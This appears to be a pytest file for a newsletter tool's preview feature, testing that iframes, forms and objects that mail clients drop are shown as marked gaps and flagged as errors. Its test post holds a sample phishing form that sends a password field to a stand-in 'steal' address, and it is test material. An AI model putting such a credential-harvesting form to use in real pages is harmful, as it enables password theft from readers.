"""A post carrying what mail clients drop (an ``<iframe>``, a form, an ``<object>``): the preview
shows the email as readers' clients would, a marked gap where each was, and lists `check`'s
errors for them (newsletter/preview/dropped.py).

Before, the preview's frames and email.html showed them as the post wrote them: the map loaded,
the form to a stranger's address could be filled in and sent from the preview, while `check`
refused the post for them and readers would have seen nothing there.
"""

from __future__ import annotations

import lxml.html
from conftest import run_cli

DROPPED = ("iframe", "form", "input", "button", "object", "embed")
POST = """---
title: "Embeds"
date: "2026-01-01T09:00:00Z"
description: "Things mail drops."
---

Our office on the map:

<iframe src="https://maps.example.org/embed?q=office" width="600" height="300"></iframe>

Tell us your password:

<form action="https://collect.example.net/steal" method="post"><input name="password"
type="password"><button>Send</button></form>

<object data="https://cdn.example.org/thing.swf"></object> Bye.
"""


def _elements(html: str, tags=DROPPED) -> list[str]:
    return [element.tag for element in lxml.html.document_fromstring(html).iter(*tags)]


def test_the_preview_shows_a_marked_gap_where_mail_clients_drop_an_element(site):
    (site / "content" / "posts" / "embeds.md").write_text(POST)

    done = run_cli(site, "preview", "embeds")

    assert done.returncode == 0  # a preview, with check's errors printed
    assert done.stderr.count("html-embed:") == 5  # iframe, form, input, button, object
    folder = site / "preview" / "embeds"
    email = (folder / "email.html").read_text()
    assert _elements(email) == []
    marks = [span.text_content() for span in lxml.html.document_fromstring(email).iter("span")
             if "dropped here" in span.text_content()]
    assert [mark.split(">")[0] for mark in marks] == ["<iframe", "<form", "<object"]
    assert "Bye." in email  # the text after a dropped element stays
    page = lxml.html.document_fromstring((folder / "index.html").read_text())
    frames = page.xpath("//iframe[@srcdoc]")
    assert len(frames) == 3
    for frame in frames:
        assert _elements(frame.get("srcdoc")) == []
        assert "<iframe> dropped here" in lxml.html.document_fromstring(
            frame.get("srcdoc")).text_content()
    assert len(page.xpath("//li[contains(@class, 'finding-error')]")) == 5
    assert "maps.example.org/embed" in (folder / "message.eml").read_text()  # as it would go


def test_an_email_without_such_elements_is_previewed_without_a_mark(site):
    done = run_cli(site, "preview", "what-matters")

    assert done.returncode == 0, done.stderr
    folder = site / "preview" / "what-matters"
    email = (folder / "email.html").read_text()
    assert "dropped here" not in email
    assert email.startswith("<!DOCTYPE html>")
